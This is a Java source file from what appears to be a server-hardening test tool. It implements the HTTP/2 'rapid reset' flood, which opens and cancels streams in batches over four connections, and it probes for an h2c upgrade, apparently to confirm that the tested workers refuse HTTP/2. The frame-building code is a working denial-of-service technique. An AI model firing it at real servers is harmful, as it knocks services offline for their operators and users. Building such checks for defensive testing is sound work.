package io.fastnpc.tools.attack;

import io.fastnpc.tools.attack.Tally.Answer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/** Opens and resets streams of HTTP/2 as fast as it can, on four connections. */
record RapidResets() implements Wave {
  private static final int CONNECTIONS = 4;
  private static final int BATCH = 100;
  private static final Duration PATIENCE = Duration.ofSeconds(5);
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final int SETTINGS = 4;
  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int END_OF_HEADERS_AND_STREAM = 5;

  /** Of its length; an answer of HTTP/1 would begin with a letter. */
  private static final int FIRST_BYTE_OF_A_FRAME = 0;

  /** GET, http, / and a host, by the static table of HPACK. */
  private static final byte[] HEAD = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};

  private static final byte[] CANCEL = {0, 0, 0, 8};

  @Override
  public String name() {
    return "rapid resets";
  }

  @Override
  public void attack(Field field, Tally tally) throws Exception {
    Crowd.of(CONNECTIONS, number -> reset(number, field, tally));
    askForUpgrade(field, tally);
  }

  private static void reset(int number, Field field, Tally tally) throws IOException {
    try (Wire wire = new Wire(field.worker(number))) {
      wire.patience(PATIENCE);
      wire.send(PREFACE.getBytes(StandardCharsets.US_ASCII));
      wire.send(frame(SETTINGS, 0, 0, new byte[0]));
      if (wire.read() == FIRST_BYTE_OF_A_FRAME) {
        field.findings().add(Rule.NO_HTTP2, "a frame in answer to the preface");
      }
      int streams = field.plan().resets() / CONNECTIONS;
      for (int stream = 0; stream < streams; stream += BATCH) {
        wire.send(batch(stream));
      }
    } catch (IOException closed) {
      tally.count(Answer.CLOSED); // as it should be
    }
  }

  private static byte[] batch(int first) {
    ByteArrayOutputStream frames = new ByteArrayOutputStream();
    for (int stream = first; stream < first + BATCH; stream++) {
      frames.writeBytes(frame(HEADERS, END_OF_HEADERS_AND_STREAM, 2 * stream + 1, HEAD));
      frames.writeBytes(frame(RESET, 0, 2 * stream + 1, CANCEL));
    }
    return frames.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    ByteArrayOutputStream frame = new ByteArrayOutputStream();
    frame.writeBytes(new byte[] {0, 0, (byte) payload.length, (byte) type, (byte) flags});
    frame.writeBytes(
        new byte[] {
          (byte) (stream >> 24), (byte) (stream >> 16), (byte) (stream >> 8), (byte) stream
        });
    frame.writeBytes(payload);
    return frame.toByteArray();
  }

  /** The polite way, which must be passed over. */
  private static void askForUpgrade(Field field, Tally tally) throws IOException {
    Shot shot =
        Message.of("GET", "/auth/me")
            .header("Connection: Upgrade, HTTP2-Settings")
            .header("Upgrade: h2c")
            .header("HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA")
            .shot();
    for (int worker = 0; worker < field.workers(); worker++) {
      try (Wire wire = new Wire(field.worker(worker))) {
        wire.send(shot.bytes());
        wire.reply("GET")
            .ifPresent(
                reply -> {
                  tally.count("GET", reply);
                  if (reply.status() == 101) {
                    field.findings().add(Rule.NO_HTTP2, "101 to " + shot.excerpt());
                  }
                });
      }
    }
  }
}
